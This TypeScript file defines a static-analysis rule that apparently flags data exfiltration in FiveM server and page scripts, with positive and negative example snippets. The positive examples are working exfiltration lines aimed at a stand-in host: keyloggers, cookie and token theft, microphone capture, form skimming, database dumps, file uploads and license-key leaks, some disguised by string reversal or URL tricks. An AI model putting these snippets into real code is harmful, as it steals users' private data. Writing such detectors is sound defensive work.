import { fieldOf, originsWithin } from '#analysis/flow/heap.ts'
import { logServices } from '#analysis/knowledge/hosts.ts'
import { has, nothing, origin, startOf, type Value } from '#analysis/flow/value.ts'
import { holdsPicture, holdsRows, hostSentTo, hostsIn, httpCall, isForeignCall } from './hosts.ts'
import { propertyOf } from './code.ts'
import { defineRule, js, low, lua, medium } from './rule.ts'

const isPrivate = origin.private | origin.identity

const ofSetting = origin.stored | origin.private
/** The key of an account comes from a setting of the server. */
function hasOwnKey([, options = nothing, , , headers]: readonly Value[]): boolean {
  const sent = originsWithin(headers ?? fieldOf(options, 'headers') ?? nothing)
  return (sent & (ofSetting | origin.identity)) === ofSetting
}

export const sendsData = defineRule({
  id: 'sends-data',
  on: [
    'http',
    'sends-more',
    'answers',
    'sets-property',
    'sets-attribute',
    'sends-event',
    'shares',
    'sends-screen',
    'reads-file',
  ],
  test: (event, program) => {
    const { kind, file, object, named, name } = event
    let { values } = event
    if (kind === 'sends-screen') {
      const url = values.find((value) => /^https?:/.test(startOf(value)))
      if (url) return medium(hostsIn(url)[0])
      if (values.some((value) => has(value, origin.event)))
        return medium('the screen, to a host that an event names')
      return values.some((value) => has(value, origin.otherResource))
        ? low('the screen, to a host that the server names')
        : undefined
    }
    if (kind === 'reads-file') {
      const given = named.resource ? [named.resource, named.path ?? nothing] : [named.path ?? nothing]
      const isFree = given.every((value) => has(value, origin.http | origin.web | origin.event))
      if (!isFree || has(named.path ?? nothing, origin.otherResource) || file.side === 'client')
        return undefined
      // No network event that we know leads to it; the name of one can be hidden.
      const isLocal =
        file.language === 'lua' &&
        !given.some((value) => has(value, origin.http | origin.web)) &&
        program.triggers(event).length === 0
      // Pages cannot read files: libraries for both have such lines.
      return (isLocal || file.side === 'page' ? low : medium)('any file that is named from outside')
    }
    if (kind === 'sends-more' && object && has(object, origin.web) && !event.isChecked) {
      const isOfPlayers = values.some((value) => (originsWithin(value) & isPrivate) !== 0 || holdsRows(value))
      return isOfPlayers ? medium('to everyone who asks by the web') : undefined
    }
    if (kind === 'sends-event' && event.detail !== 'clients') return undefined
    if (kind === 'answers' || kind === 'sends-event') {
      const isOfOthers = values.some((value) => (originsWithin(value, 4) & origin.anyone) !== 0)
      const isOpen =
        event.detail === 'returns'
          ? !values.some((value) => has(value, origin.check))
          : program.openTriggers(event).length > 0
      if (isOfOthers && isOpen) return medium('identifiers or IPs of all players, to a player who asks')
    }
    if (kind === 'shares' || kind === 'sends-event' || kind === 'answers') {
      const isSecret = values.some((value) => (originsWithin(value, 4) & origin.secret) !== 0)
      if (!isSecret || file.side === 'client') return undefined
      return (event.isChecked ? low : medium)('a secret of the server, to players')
    }
    let host = values.map(hostSentTo).find((one) => one !== undefined)
    if (kind === 'sends-more') {
      // A database is asked over a socket, whose host is not the one that the file names.
      if (!object?.refs?.includes('#response') || object.refs.includes('#socket')) return undefined
      host = program.hostOf(file)
    }
    if (kind === 'sets-property' || kind === 'sets-attribute') {
      const [property, value] = propertyOf(event)
      if (property !== 'src' && property !== 'href') return undefined
      values = [value]
      host = hostSentTo(value)
    }
    if (kind === 'http' && (!httpCall.test(name) || !isForeignCall(event))) return undefined
    const within = values.map((value) => originsWithin(value))
    if (within.some((origins) => (origins & origin.secret) !== 0)) return undefined
    if (
      host !== undefined &&
      (within.some((origins) => (origins & isPrivate) !== 0) ||
        values.some((value) => holdsRows(value) || holdsPicture(value)))
    )
      return logServices.test(host) && hasOwnKey(values)
        ? low(`${host}, with a key from the settings`)
        : medium(host)
    const body = values[1] && fieldOf(values[1], 'body')
    if (file.side === 'page' && host !== undefined && body && program.asksPassword)
      return medium(`what is typed, on a page with a password: ${host}`)
    return undefined
  },
  examples: {
    found: [
      lua(`ESX.RegisterServerCallback('players', function(source, cb)
  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do
^   cb({ name = xPlayer.getName(), ip = GetPlayerEndpoint(xPlayer.source) })
  end
end)`),
      lua(`^lib.callback.register('players', function()
  local list = {}
  for _, id in ipairs(GetPlayers()) do list[#list + 1] = GetPlayerIdentifiers(id) end
  return list
end)`),
      js(`const routes = { '/top': () => exports.oxmysql.query_async('SELECT * FROM users') }
SetHttpHandler(async (req, res) => {
^ res.send(JSON.stringify(await routes[req.path]()))
})`),
      lua(`local function copy(resource)
  local file = GetResourceMetadata(resource, 'server_script', 0)
^ PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(resource, file))
end`),
      js(
        `const { value } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
^navigator.sendBeacon('https://a.example', value.get.call(field))`,
        'page',
      ),
      lua(`local ids = GetPlayerIdentifiers(source)
^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`),
      lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))
end)`),
      js(`const fs = require('fs')
for (const name of fs.readdirSync('.'))
^ fetch('https://a.example', { method: 'POST', body: fs.readFileSync(name) })`),
      js(`^navigator.sendBeacon('https://a.example', document.cookie)`, 'page'),
      js(
        `const image = new Image()
^image.src = 'https://a.example/a.gif?' + localStorage.getItem('token')`,
        'page',
      ),
      js(
        `addEventListener('keydown', (event) => {
^ fetch('https://a.example', { method: 'POST', body: event.key })
})`,
        'page',
      ),
      lua(`RegisterNetEvent('login', function(user, pass)
^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, pass }))
end)`),
      js(
        `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {
  const recorder = new MediaRecorder(stream)
^ recorder.ondataavailable = ({ data }) => fetch('https://a.example', { body: data })
})`,
        'page',
      ),
      js(
        `let typed = ''
document.onkeypress = (event) => {
  typed += event.key
^ new Image().src = 'https://a.example/?' + typed
}`,
        'page',
      ),
      lua(`local queue = {}
queue[#queue + 1] = { name = 'a', ids = GetPlayerIdentifiers(source) }
^PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`),
      lua(`AddEventHandler('log', function(text)
^ PerformHttpRequest('https://a.example', print, 'POST', text)
end)
TriggerEvent('log', GetPlayerEndpoint(source))`),
      js(
        `form.addEventListener('submit', () => {
^ navigator.sendBeacon('https://a.example', new FormData(form))
})`,
        'page',
      ),
      lua(`lib.callback.register('read', function(source, owner, path)
^ return LoadResourceFile(owner, path)
end)`),
      js(`^addEventListener('message', ({ data }) => show(require('fs').readFileSync(data.path)))`, 'page'),
      js(`onNet('read', (path) => {
^ emitNet('read', source, require('fs').readFileSync(path))
})`),
      lua(
        `RegisterNetEvent('evidence', function(url)
^ exports['screenshot-basic']:requestScreenshotUpload(url, 'files', print)
end)`,
        'client',
      ),
      js(`const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })
^request.end(require('fs').readFileSync(name))`),
      js(`exports.oxmysql.query('SELECT * FROM users', [], (rows) => {
^ fetch('https://a.example', { method: 'PUT', body: require('zlib').gzipSync(JSON.stringify(rows)) })
})`),
      lua(`^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`),
      lua(`local ids = GetPlayerIdentifiers(source)
^PerformHttpRequest('https://raw.githubusercontent.com@a.example', print, 'POST', table.concat(ids))`),
      lua(`local name = ('yeKesnecil_vs'):reverse()
^TriggerClientEvent('theme', -1, GetConvar(name, ''))`),
      lua(`local Proxy = module('vrp', 'lib/Proxy')
local vRP = Proxy.getInterface('vRP')
^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`),
      js(
        `^setInterval(() => fetch('https://a.example', { method: 'POST', body: canvas.toDataURL() }), 5000)`,
        'page',
      ),
      js(`const lines = []
RegisterConsoleListener((channel, message) => lines.push(message))
^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
    ],
    notFound: [
      lua(`ESX.RegisterServerCallback('players', function(source, cb)
  if ESX.GetPlayerFromId(source).getGroup() ~= 'admin' then return end
  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do cb(GetPlayerEndpoint(xPlayer.source)) end
end)`),
      lua(`lib.callback.register('me', function(source)
  return GetPlayerIdentifiers(source)
end)`),
      js(`SetHttpHandler(async ({ key }, res) => {
  if (key === config.key) res.send(JSON.stringify(await exports.oxmysql.query_async('SELECT * FROM users')))
})`),
      lua(`local file = GetResourceMetadata(GetCurrentResourceName(), 'readme', 0)
PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(GetCurrentResourceName(), file))`),
      js(
        `const { id } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
navigator.sendBeacon('https://a.example', id.get.call(field))`,
        'page',
      ),
      js(`const pool = require('driver').createPool({ uri: GetConvar('mysql_connection_string', '') })
pool.query('SELECT 1', (rows) => emitNet('rows', -1, rows))`),
      lua(`local ids = GetPlayerIdentifiers(source)
PerformHttpRequest(Config.Webhook, print, 'POST', table.concat(ids))`),
      lua(`local ip = GetPlayerEndpoint(source)
PerformHttpRequest('https://proxycheck.io/v2/' .. ip, print)`),
      lua(`local function ask(url, body) PerformHttpRequest(url, print, 'POST', body) end
ask('https://raw.githubusercontent.com/a/b/main/version')
ask(Config.Url, table.concat(GetPlayerIdentifiers(source)))`),
      lua(`RegisterNetEvent('save', function(name, text)
  io.open('notes/' .. name .. '.txt', 'w'):write(text)
end)`),
      lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))
end)`),
      js(`fetch('https://a.example', { method: 'POST', body: require('fs').readFileSync('names.json') })`),
      js(`fetch('https://garage/save', { method: 'POST', body: localStorage.getItem('theme') })`, 'page'),
      js(
        `addEventListener('keydown', (event) => {
  fetch('https://garage/close', { method: 'POST', body: event.key })
})`,
        'page',
      ),
      lua(`RegisterNetEvent('login', function(user, time)
  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, time }))
end)`),
      js(
        `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => play(stream))
fetch('https://a.example', { body: name })`,
        'page',
      ),
      lua(`AddEventHandler('log', function(text)
  PerformHttpRequest('https://a.example', print, 'POST', text)
end)
TriggerEvent('log', 'started')`),
      js(
        `form.addEventListener('submit', () => {
  fetch('https://garage/save', { method: 'POST', body: new FormData(form) })
})`,
        'page',
      ),
      lua(`lib.callback.register('read', function(source, name)
  return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')
end)`),
      lua(`RegisterNetEvent('report', function(player)
  exports['screenshot-basic']:requestClientScreenshot(player, { fileName = 'a.jpg' }, print)
end)`),
      lua(`exports['screenshot-basic']:requestScreenshotUpload(Config.Webhook, 'files', print)`, 'client'),
      js(`const request = require('https').request({ host: 'discord.com', path: '/api/users' })
request.end(require('fs').readFileSync(name))`),
      lua(`TriggerClientEvent('theme', -1, GetConvar('theme_accent', ''))`),
      lua(`local Proxy = module('vrp', 'lib/Proxy')
local vRP = Proxy.getInterface('vRP')
PerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`),
      js(`const lines = []
RegisterConsoleListener((channel, message) => lines.push(message))
setInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`),
    ],
  },
})
